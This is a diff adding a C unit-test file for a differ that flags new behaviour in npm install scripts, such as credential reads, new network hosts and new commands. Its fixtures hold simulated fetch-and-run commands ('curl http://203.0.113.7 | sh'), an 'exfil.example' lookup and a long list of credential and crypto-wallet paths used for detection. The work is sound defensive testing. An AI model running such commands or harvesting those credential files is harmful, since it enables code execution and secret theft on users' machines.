@@ -1,0 +1,535 @@
+/*
+ * tests/differ/test_analyze.c - runs against baselines.
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "helpers.h"
+
+static fangs_event_list run_a, run_b;
+static fangs_deviation_list devs;
+static fangs_differ *differ;
+
+static void setup(void)
+{
+	memset(&run_a, 0, sizeof(run_a));
+	memset(&run_b, 0, sizeof(run_b));
+	memset(&devs, 0, sizeof(devs));
+	ck_assert_int_eq(fangs_differ_new(&differ, NULL), 0);
+}
+
+static void teardown(void)
+{
+	fangs_event_list_free(&run_a);
+	fangs_event_list_free(&run_b);
+	fangs_deviation_list_free(&devs);
+	fangs_differ_free(differ);
+}
+
+/* The fingerprints of a first run: what later runs are compared with. */
+static fangs_fpset *baseline_of(const fangs_differ *d, const fangs_event_list *run, const char *version)
+{
+	fangs_fpset *set = NULL;
+	fangs_deviation_list none = {0};
+	ck_assert_int_eq(fangs_fpset_new(&set), 0);
+	ck_assert_int_eq(t_analyze(d, run, NULL, "foo", version, NULL, 0, set, &none), 0);
+	ck_assert_uint_eq(none.count, 0);
+	return set;
+}
+
+static void expect_values(const fangs_deviation_list *l, const char *const *values, size_t n)
+{
+	for (size_t i = 0; i < n; i++)
+		ck_assert_msg(t_find(l, values[i]), "expected a deviation for '%s'", values[i]);
+	if (l->count != n) {
+		for (size_t i = 0; i < l->count; i++)
+			fprintf(stderr, "  got %s %s (%s)\n", l->items[i].kind, l->items[i].value,
+				fangs_actor_name(l->items[i].actor));
+	}
+	ck_assert_uint_eq(l->count, n);
+}
+
+START_TEST(first_run_seeds)
+{
+	fangs_fpset *run_fps = NULL, *empty = NULL;
+	fangs_event *fork;
+	t_open(&run_a, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ);
+	t_connect(&run_a, "foo", "203.0.113.7", 443, FANGS_PROTO_TCP);
+	t_exec(&run_a, "foo", "/bin/sh", "sh", "-c", "curl http://203.0.113.7 | sh", NULL);
+	t_open(&run_a, "foo", "/root/.ssh/id_rsa", FANGS_OPEN_READ);
+	fork = fangs_event_list_push(&run_a);
+	fork->kind = FANGS_EV_PROC_FORK;
+
+	ck_assert_int_eq(fangs_fpset_new(&run_fps), 0);
+	ck_assert_int_eq(t_analyze(differ, &run_a, NULL, "foo", "1.0.0", NULL, 0, run_fps, &devs), 0);
+	ck_assert_uint_eq(devs.count, 0);
+	ck_assert_uint_eq(fangs_fpset_size(run_fps), 3);
+	ck_assert(fangs_fpset_contains(run_fps, FANGS_FP_FS_READ, FANGS_ACTOR_SCRIPT, "~/.ssh/id_rsa"));
+	ck_assert(fangs_fpset_contains(run_fps, FANGS_FP_NET, FANGS_ACTOR_SCRIPT, "203.0.113.7:443/tcp"));
+
+	/* an empty baseline is a first run too */
+	ck_assert_int_eq(fangs_fpset_new(&empty), 0);
+	ck_assert_int_eq(t_analyze(differ, &run_a, empty, "foo", "1.0.0", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 0);
+	fangs_fpset_free(run_fps);
+	fangs_fpset_free(empty);
+}
+END_TEST
+
+START_TEST(npmrc_by_npm_vs_script)
+{
+	fangs_fpset *base;
+	const fangs_deviation *d;
+	fangs_event *thief;
+
+	t_open(&run_a, NULL, "/root/.npmrc", FANGS_OPEN_READ);
+	t_open(&run_a, NULL, "/work/package.json", FANGS_OPEN_READ);
+	t_exec(&run_a, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
+	base = baseline_of(differ, &run_a, "1.0.0");
+
+	t_open(&run_b, NULL, "/root/.npmrc", FANGS_OPEN_READ);
+	t_open(&run_b, NULL, "/work/package.json", FANGS_OPEN_READ);
+	t_exec(&run_b, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
+	thief = t_open(&run_b, "foo", "/root/.npmrc", FANGS_OPEN_READ);
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+
+	ck_assert_uint_eq(devs.count, 1);
+	d = &devs.items[0];
+	ck_assert_str_eq(d->kind, "fs_cred_read");
+	ck_assert_int_eq(d->severity, FANGS_SEV_CRITICAL);
+	ck_assert_str_eq(d->value, "~/.npmrc");
+	ck_assert_int_eq(d->actor, FANGS_ACTOR_SCRIPT);
+	ck_assert_str_eq(d->run_id, "run-1");
+	ck_assert_str_eq(d->package, "foo");
+	ck_assert_str_eq(d->origin.package, "foo");
+	ck_assert_str_eq(d->origin.script, "postinstall");
+	ck_assert_str_eq(d->origin.version, "1.0.0");
+	ck_assert_str_eq(d->command, "node install.js");
+	ck_assert_uint_eq(d->n_evidence, 1);
+	ck_assert_int_eq(d->evidence[0], thief->id);
+	ck_assert_int_gt(d->created_ns, 0);
+	ck_assert_int_eq(fangs_deviation_list_max_severity(&devs), FANGS_SEV_CRITICAL);
+	fangs_fpset_free(base);
+}
+END_TEST
+
+START_TEST(npm_reads_new_file)
+{
+	fangs_fpset *base;
+	t_open(&run_a, NULL, "/etc/hosts", FANGS_OPEN_READ);
+	base = baseline_of(differ, &run_a, "1.0.0");
+	/* the same file read by a script is a new fingerprint; npm's own read is not */
+	t_open(&run_b, NULL, "/etc/hosts", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/etc/hosts", FANGS_OPEN_READ);
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 1);
+	ck_assert_str_eq(devs.items[0].kind, "fs_new_path_read");
+	ck_assert_int_eq(devs.items[0].severity, FANGS_SEV_LOW);
+	ck_assert_int_eq(devs.items[0].actor, FANGS_ACTOR_SCRIPT);
+	fangs_fpset_free(base);
+}
+END_TEST
+
+START_TEST(sh_c_new_command_line)
+{
+	fangs_fpset *base;
+	const fangs_deviation *d;
+	t_exec(&run_a, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
+	t_exec(&run_a, "foo", "/usr/bin/node", "node", "install.js", NULL);
+	base = baseline_of(differ, &run_a, "1.0.0");
+	ck_assert(fangs_fpset_contains(base, FANGS_FP_EXEC, FANGS_ACTOR_SCRIPT, "/bin/sh -c node install.js"));
+
+	t_exec(&run_b, "foo", "/bin/sh", "sh", "-c", "node install.js", NULL);
+	t_exec(&run_b, "foo", "/usr/bin/node", "node", "install.js", NULL);
+	t_exec(&run_b, "foo", "/bin/sh", "sh", "-c", "curl -s http://203.0.113.7/x.sh | sh", NULL);
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 1);
+	d = &devs.items[0];
+	ck_assert_str_eq(d->kind, "proc_new_exec");
+	ck_assert_int_eq(d->severity, FANGS_SEV_MEDIUM);
+	ck_assert_str_eq(d->value, "/bin/sh -c curl -s http://203.0.113.7/x.sh | sh");
+	ck_assert_str_eq(d->command, "sh -c curl -s http://203.0.113.7/x.sh | sh");
+	ck_assert_str_eq(d->origin.command, "node install.js");
+	fangs_fpset_free(base);
+}
+END_TEST
+
+/* One install of foo@<version>: what npm and foo's install script do, with
+ * every kind of run-to-run noise drawn from `seed`. */
+static void install_run(fangs_event_list *l, const char *version, int seed)
+{
+	char p[512];
+	static const char *const logs[] = {"2024-05-01T10_22_33_123Z-debug-0.log", "2025-01-15T08_03_12_345Z-debug-0.log"};
+	static const char *const tmps[] = {"AbC123", "q9XyZ0"};
+	static const char *const hashes[] = {"3f2a9b1c", "0e1d2c3b"};
+	int s = seed & 1;
+
+	t_open(l, NULL, "/root/.npmrc", FANGS_OPEN_READ);
+	snprintf(p, sizeof(p), "/root/.npm/_logs/%s", logs[s]);
+	t_open(l, NULL, p, FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "/root/.npm/_cacache/index-v5/%s/%s/%s9e0a8f3f4c55b6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8",
+		 s ? "b1" : "7f", s ? "3c" : "00", hashes[s]);
+	t_open(l, NULL, p, FANGS_OPEN_READ);
+	snprintf(p, sizeof(p), "/root/.npm/_cacache/content-v2/sha512/%s/%s/%sabcdef0123456789",
+		 s ? "0e" : "a4", s ? "9f" : "51", hashes[s]);
+	t_open(l, NULL, p, FANGS_OPEN_READ);
+	snprintf(p, sizeof(p), "/root/.npm/_cacache/tmp/%s", hashes[s]);
+	t_open(l, NULL, p, FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "/proc/%d/status", 3100 + seed * 17);
+	t_open(l, NULL, p, FANGS_OPEN_READ);
+	t_open(l, NULL, "/proc/self/maps", FANGS_OPEN_READ);
+	snprintf(p, sizeof(p), "/work/node_modules/.foo-%s%s/package.json", tmps[s], s ? "Kx" : "Lm");
+	t_open(l, NULL, p, FANGS_OPEN_WRITE);
+	t_open(l, NULL, "/work/node_modules/.package-lock.json", FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "/work/node_modules/.package-lock.json.%d", 1000000 + seed * 7919);
+	t_open(l, NULL, p, FANGS_OPEN_WRITE);
+	t_exec(l, "foo", "/bin/sh", "sh", "-c", "node scripts/install.js", NULL);
+	t_exec(l, "foo", "/usr/bin/node", "node", "scripts/install.js", NULL);
+	snprintf(p, sizeof(p), "/tmp/node-gyp-tmp-%s/node-v20.11.1/include/node/node.h", tmps[s]);
+	t_open(l, "foo", p, FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "/tmp/cc%s.s", tmps[s]);
+	t_open(l, "foo", p, FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "/root/.cache/foo/v%s/foo-v%s-linux-x64.tar.gz", version, version);
+	t_open(l, "foo", p, FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "/work/node_modules/foo/build/stamp-%d", 1714558953 + seed * 3600);
+	t_open(l, "foo", p, FANGS_OPEN_WRITE);
+	snprintf(p, sizeof(p), "cp /tmp/tmp-%d%s/foo-%s.node build/", 4200 + seed, tmps[s], version);
+	t_exec(l, "foo", "/bin/sh", "sh", "-c", p, NULL);
+	t_connect(l, "foo", s ? "::ffff:198.51.100.20" : "198.51.100.20", 443, FANGS_PROTO_TCP);
+	t_dns(l, "foo", s ? "Downloads.Example." : "downloads.example");
+	t_sni(l, "foo", s ? "DOWNLOADS.example" : "downloads.example");
+}
+
+START_TEST(noise_only_run)
+{
+	fangs_fpset *base;
+	install_run(&run_a, "1.4.2", 0);
+	base = baseline_of(differ, &run_a, "1.4.2");
+	install_run(&run_b, "1.5.0", 1);
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.5.0", NULL, 0, NULL, &devs), 0);
+	expect_values(&devs, NULL, 0);
+
+	/* and something real on top of the noise still shows */
+	t_dns(&run_b, "foo", "exfil.example");
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.5.0", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 1);
+	ck_assert_str_eq(devs.items[0].value, "exfil.example");
+	fangs_fpset_free(base);
+}
+END_TEST
+
+static fangs_fpset *nonempty_baseline(void)
+{
+	fangs_fpset *base = NULL;
+	ck_assert_int_eq(fangs_fpset_new(&base), 0);
+	ck_assert_int_eq(fangs_fpset_add(base, FANGS_FP_FS_READ, FANGS_ACTOR_NPM, "/work/package.json"), 1);
+	return base;
+}
+
+START_TEST(allowlists)
+{
+	fangs_config cfg;
+	fangs_differ *d = NULL;
+	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
+	fangs_allow_list per_pkg = {0};
+	fangs_fpset *base = nonempty_baseline();
+	fangs_event *ev;
+	static const char *const expected[] = {
+		"/usr/share/zoneinfo-evil/x",
+		"/usr/share/zoneinfo/x",
+		"11.0.0.1:443/tcp",
+		"[2001:db9::1]:443/tcp",
+		"evil.registry.example",
+		"badexample.org",
+		"example.org",
+		"registry.example",
+		"/usr/bin/git-lfs",
+		"evil.example",
+		"/opt/bar/x",
+	};
+
+	memset(&cfg, 0, sizeof(cfg));
+	cfg.builtin_cred_paths = 1;
+	/* global entries, from the configuration */
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_PATH, "/usr/share/zoneinfo/", NULL, NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_CIDR, "10.0.0.0/8", NULL, NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_SNI, "registry.example", NULL, NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_EXEC, "/usr/bin/git", NULL, NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_PATH, "/opt/foo/", "foo", NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_PATH, "/opt/bar/", "bar", NULL), 0);
+	/* an invalid entry is skipped, not fatal */
+	ck_assert_int_eq(fangs_allow_list_add(&cfg.allow, FANGS_ALLOW_CIDR, "10.0.0.0/99", NULL, NULL), 0);
+	opts.config = &cfg;
+	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);
+	/* per-package entries, given with the run */
+	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_DNS, "Example.ORG.", "foo", NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_CIDR, "2001:db8::/32", "foo", NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_DNS, "evil.example", "other", NULL), 0);
+	ck_assert_int_eq(fangs_allow_list_add(&per_pkg, FANGS_ALLOW_PATH, "/etc/hosts", NULL, NULL), 0);
+
+	t_open(&run_b, "foo", "/usr/share/zoneinfo/Europe/Paris", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/usr/share/zoneinfo/UTC", FANGS_OPEN_WRITE);
+	t_open(&run_b, "foo", "/usr/share/zoneinfo-evil/x", FANGS_OPEN_READ);
+	t_exec(&run_b, "foo", "/usr/share/zoneinfo/x", "x", NULL);
+	t_open(&run_b, "foo", "/etc/hosts", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/opt/foo/data", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/opt/bar/x", FANGS_OPEN_READ);
+	t_connect(&run_b, "foo", "10.1.2.3", 443, FANGS_PROTO_TCP);
+	t_connect(&run_b, "foo", "::ffff:10.9.9.9", 80, FANGS_PROTO_TCP);
+	t_connect(&run_b, "foo", "11.0.0.1", 443, FANGS_PROTO_TCP);
+	t_connect(&run_b, "foo", "2001:db8:1::5", 443, FANGS_PROTO_TCP);
+	t_connect(&run_b, "foo", "2001:db9::1", 443, FANGS_PROTO_TCP);
+	t_sni(&run_b, "foo", "REGISTRY.example");
+	t_sni(&run_b, "foo", "evil.registry.example");
+	t_dns(&run_b, "foo", "cdn.example.org");
+	t_dns(&run_b, "foo", "example.org");
+	t_dns(&run_b, "foo", "badexample.org");
+	t_sni(&run_b, "foo", "example.org");
+	t_dns(&run_b, "foo", "registry.example");
+	t_exec(&run_b, "foo", "/usr/bin/git", "git", "fetch", NULL);
+	t_exec(&run_b, "foo", "/usr/bin/git-lfs", "git-lfs", "pull", NULL);
+	t_dns(&run_b, "foo", "evil.example");
+	/* the allowed binary also covers it through another spelling of its path */
+	ev = t_exec(&run_b, "foo", "/usr/bin/../bin/git", "git", "status", NULL);
+	(void)ev;
+
+	ck_assert_int_eq(t_analyze(d, &run_b, base, "foo", "1.0.1", per_pkg.items, per_pkg.count, NULL, &devs), 0);
+	expect_values(&devs, expected, sizeof(expected) / sizeof(expected[0]));
+	ck_assert_str_eq(t_find(&devs, "example.org")->kind, "net_new_https_host");
+	ck_assert_str_eq(t_find(&devs, "registry.example")->kind, "net_new_dns");
+	ck_assert_str_eq(t_find(&devs, "/usr/share/zoneinfo/x")->kind, "proc_new_exec");
+
+	/* the same run without any allowlist deviates on everything new */
+	fangs_deviation_list_free(&devs);
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, run_b.count - 1); /* git and ../bin/git are one fingerprint */
+
+	fangs_differ_free(d);
+	fangs_allow_list_free(&per_pkg);
+	fangs_allow_list_free(&cfg.allow);
+	fangs_fpset_free(base);
+}
+END_TEST
+
+START_TEST(severity_overrides)
+{
+	fangs_config cfg;
+	fangs_severity_override ov[] = {
+		{(char *)"proc_new_exec", NULL, FANGS_SEV_HIGH},
+		{(char *)"net_new_dns", (char *)"left-pad", FANGS_SEV_LOW},
+		{(char *)"net_new_dns", NULL, FANGS_SEV_HIGH},
+		{(char *)"fs_cred_read", (char *)"other", FANGS_SEV_INFO},
+	};
+	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
+	fangs_differ *d = NULL;
+	fangs_fpset *base = nonempty_baseline();
+
+	memset(&cfg, 0, sizeof(cfg));
+	cfg.builtin_cred_paths = 1;
+	cfg.severity = ov;
+	cfg.n_severity = sizeof(ov) / sizeof(ov[0]);
+	opts.config = &cfg;
+	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);
+
+	t_dns(&run_b, "left-pad", "stats.example");
+	t_exec(&run_b, "left-pad", "/usr/bin/curl", "curl", NULL);
+	t_open(&run_b, "left-pad", "/root/.aws/credentials", FANGS_OPEN_READ);
+	t_open(&run_b, "left-pad", "/etc/os-release", FANGS_OPEN_READ);
+
+	ck_assert_int_eq(t_analyze(d, &run_b, base, "left-pad", "1.3.0", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 4);
+	ck_assert_int_eq(t_find(&devs, "stats.example")->severity, FANGS_SEV_LOW);          /* package */
+	ck_assert_int_eq(t_find(&devs, "/usr/bin/curl")->severity, FANGS_SEV_HIGH);         /* global */
+	ck_assert_int_eq(t_find(&devs, "~/.aws/credentials")->severity, FANGS_SEV_CRITICAL); /* default */
+	ck_assert_int_eq(t_find(&devs, "/etc/os-release")->severity, FANGS_SEV_LOW);        /* default */
+
+	fangs_deviation_list_free(&devs);
+	ck_assert_int_eq(t_analyze(d, &run_b, base, "other", "1.3.0", NULL, 0, NULL, &devs), 0);
+	ck_assert_int_eq(t_find(&devs, "stats.example")->severity, FANGS_SEV_HIGH);
+	ck_assert_int_eq(t_find(&devs, "~/.aws/credentials")->severity, FANGS_SEV_INFO);
+	fangs_differ_free(d);
+	fangs_fpset_free(base);
+}
+END_TEST
+
+START_TEST(cred_paths_builtin)
+{
+	static const char *const creds[] = {
+		"/root/.npmrc",
+		"/home/x/.npmrc",
+		"/home/x/.ssh/id_rsa",
+		"/root/.ssh",
+		"/root/.ssh/",
+		"/home/bob/.aws/credentials",
+		"/root/.config/gcloud/application_default_credentials.json",
+		"/root/.docker/config.json",
+		"/home/x/.git-credentials",
+		"/root/.netrc",
+		"/work/app/.env",
+		"/work/node_modules/foo/.env.local",
+		"/etc/shadow",
+		"/etc/gshadow",
+		"/root/.mozilla/firefox/k3x9.default-release/logins.json",
+		"/home/x/.config/google-chrome/Default/Login Data",
+		"/home/x/.config/chromium/Default/Cookies",
+		"/home/x/.config/BraveSoftware/Brave-Browser/Default/Web Data",
+		"/root/.bitcoin/wallet.dat",
+		"/home/x/.electrum/wallets/default_wallet",
+		"/root/.ethereum/keystore/UTC--2024-05-01T10-22-33.123Z--0123abcd",
+		"/home/x/.config/Exodus/exodus.wallet/seed.seco",
+		"/home/x/.config/yandex-browser/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn/000003.log",
+		"/root/.kube/config",
+		"/root/.gnupg/private-keys-v1.d/0A1B.key",
+		"/home/x/../../root/.ssh/id_ed25519",
+	};
+	static const char *const not_creds[] = {
+		"/root/.npmrc.bak/x/../../.cache",
+		"/root/.docker/other.json",
+		"/work/app/.envrc",
+		"/work/app/env",
+		"/etc/passwd",
+		"/root/.ethereum/geth/chaindata/000001.ldb",
+		"/srv/home/x/.ssh/id_rsa",
+		"/home/x/.sshx",
+		"/work/node_modules/foo/.npmrc",
+		"/root/.kube/cache/discovery",
+	};
+	for (size_t i = 0; i < sizeof(creds) / sizeof(creds[0]); i++)
+		ck_assert_msg(fangs_differ_is_cred_path(differ, creds[i]) == 1, "%s is a credential place", creds[i]);
+	for (size_t i = 0; i < sizeof(not_creds) / sizeof(not_creds[0]); i++)
+		ck_assert_msg(fangs_differ_is_cred_path(differ, not_creds[i]) == 0, "%s is not a credential place",
+			      not_creds[i]);
+	ck_assert_int_eq(fangs_differ_is_cred_path(NULL, "/root/.npmrc"), 1);
+	ck_assert_int_eq(fangs_differ_is_cred_path(differ, NULL), 0);
+}
+END_TEST
+
+START_TEST(cred_paths_configured)
+{
+	fangs_config cfg;
+	fangs_watched_path w[] = {
+		{(char *)"/opt/secrets/", 1},
+		{(char *)"~/.vault-token", 1},
+		{(char *)"/var/lib/app/", 0},
+	};
+	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
+	fangs_differ *d = NULL;
+	fangs_fpset *base = nonempty_baseline();
+
+	memset(&cfg, 0, sizeof(cfg));
+	cfg.builtin_cred_paths = 0;
+	cfg.watched_paths = w;
+	cfg.n_watched_paths = 3;
+	opts.config = &cfg;
+	ck_assert_int_eq(fangs_differ_new(&d, &opts), 0);
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/opt/secrets/key"), 1);
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/opt/secrets"), 1);
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/opt/secretsX"), 0);
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/home/y/.vault-token"), 1);
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/root/.vault-token"), 1);
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/var/lib/app/x"), 0);
+	/* built-in places are off in this configuration */
+	ck_assert_int_eq(fangs_differ_is_cred_path(d, "/root/.npmrc"), 0);
+
+	t_open(&run_b, "foo", "/opt/secrets/key", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/home/node/.vault-token", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/home/node/.ssh/id_rsa", FANGS_OPEN_READ);
+	t_open(&run_b, "foo", "/opt/secrets/new", FANGS_OPEN_WRITE);
+	ck_assert_int_eq(t_analyze(d, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 4);
+	ck_assert_str_eq(t_find(&devs, "/opt/secrets/key")->kind, "fs_cred_read");
+	ck_assert_str_eq(t_find(&devs, "~/.vault-token")->kind, "fs_cred_read");
+	ck_assert_str_eq(t_find(&devs, "~/.ssh/id_rsa")->kind, "fs_new_path_read");
+	ck_assert_str_eq(t_find(&devs, "/opt/secrets/new")->kind, "fs_new_path_write");
+	fangs_differ_free(d);
+	fangs_fpset_free(base);
+}
+END_TEST
+
+START_TEST(evidence_and_order)
+{
+	fangs_fpset *base = nonempty_baseline();
+	int64_t first_ids[3] = {0, 0, 0};
+	fangs_event *ev;
+
+	first_ids[0] = t_dns(&run_b, "foo", "a.example")->id;
+	for (int i = 0; i < 40; i++) {
+		char p[64];
+		snprintf(p, sizeof(p), "/proc/%d/environ", 100 + i);
+		ev = t_open(&run_b, i % 2 ? "foo" : "bar", p, FANGS_OPEN_READ);
+		if (i == 0)
+			first_ids[1] = ev->id;
+	}
+	first_ids[2] = t_connect(&run_b, "foo", "198.51.100.9", 8080, FANGS_PROTO_TCP)->id;
+	t_dns(&run_b, "foo", "A.EXAMPLE.");
+	ev = fangs_event_list_push(&run_b);
+	ev->kind = FANGS_EV_PROC_EXIT;
+
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 3);
+	/* in the order of their first evidence */
+	ck_assert_str_eq(devs.items[0].value, "a.example");
+	ck_assert_str_eq(devs.items[1].value, "/proc/<pid>/environ");
+	ck_assert_str_eq(devs.items[2].value, "198.51.100.9:8080/tcp");
+	ck_assert_int_eq(devs.items[0].evidence[0], first_ids[0]);
+	ck_assert_uint_eq(devs.items[0].n_evidence, 2);
+	ck_assert_int_eq(devs.items[0].evidence[1], run_b.items[42].id);
+	/* capped, oldest first */
+	ck_assert_uint_eq(devs.items[1].n_evidence, 32);
+	for (size_t i = 0; i < 32; i++)
+		ck_assert_int_eq(devs.items[1].evidence[i], first_ids[1] + (int64_t)i);
+	/* origin of the first evidence (bar), not of later ones (foo) */
+	ck_assert_str_eq(devs.items[1].origin.package, "bar");
+	ck_assert_int_eq(devs.items[2].evidence[0], first_ids[2]);
+	ck_assert_str_eq(devs.items[2].kind, "net_new_destination");
+	ck_assert_int_eq(devs.items[2].severity, FANGS_SEV_HIGH);
+
+	/* deterministic: a second analysis appends the same list */
+	ck_assert_int_eq(t_analyze(differ, &run_b, base, "foo", "1.0.1", NULL, 0, NULL, &devs), 0);
+	ck_assert_uint_eq(devs.count, 6);
+	for (size_t i = 0; i < 3; i++) {
+		ck_assert_str_eq(devs.items[i].value, devs.items[i + 3].value);
+		ck_assert_uint_eq(devs.items[i].n_evidence, devs.items[i + 3].n_evidence);
+	}
+	fangs_fpset_free(base);
+}
+END_TEST
+
+START_TEST(bad_arguments)
+{
+	fangs_differ_input in = {0};
+	fangs_differ_options opts = FANGS_DIFFER_OPTIONS_INIT;
+	fangs_differ *d = NULL;
+	ck_assert_int_eq(fangs_differ_analyze(NULL, &in, NULL, &devs), FANGS_EINVAL);
+	ck_assert_int_eq(fangs_differ_analyze(differ, NULL, NULL, &devs), FANGS_EINVAL);
+	ck_assert_int_eq(fangs_differ_analyze(differ, &in, NULL, NULL), FANGS_EINVAL);
+	in.n_events = 3;
+	ck_assert_int_eq(fangs_differ_analyze(differ, &in, NULL, &devs), FANGS_EINVAL);
+	in.n_events = 0;
+	ck_assert_int_eq(fangs_differ_analyze(differ, &in, NULL, &devs), 0);
+	opts.version = 99;
+	ck_assert_int_eq(fangs_differ_new(&d, &opts), FANGS_EVERSION);
+	ck_assert_ptr_null(d);
+	ck_assert_int_eq(fangs_differ_new(NULL, NULL), FANGS_EINVAL);
+	fangs_differ_free(NULL);
+}
+END_TEST
+
+TCase *tcase_analyze(void)
+{
+	TCase *tc = tcase_create("analyze");
+	tcase_add_checked_fixture(tc, setup, teardown);
+	tcase_add_test(tc, first_run_seeds);
+	tcase_add_test(tc, npmrc_by_npm_vs_script);
+	tcase_add_test(tc, npm_reads_new_file);
+	tcase_add_test(tc, sh_c_new_command_line);
+	tcase_add_test(tc, noise_only_run);
+	tcase_add_test(tc, allowlists);
+	tcase_add_test(tc, severity_overrides);
+	tcase_add_test(tc, cred_paths_builtin);
+	tcase_add_test(tc, cred_paths_configured);
+	tcase_add_test(tc, evidence_and_order);
+	tcase_add_test(tc, bad_arguments);
+	return tc;
+}
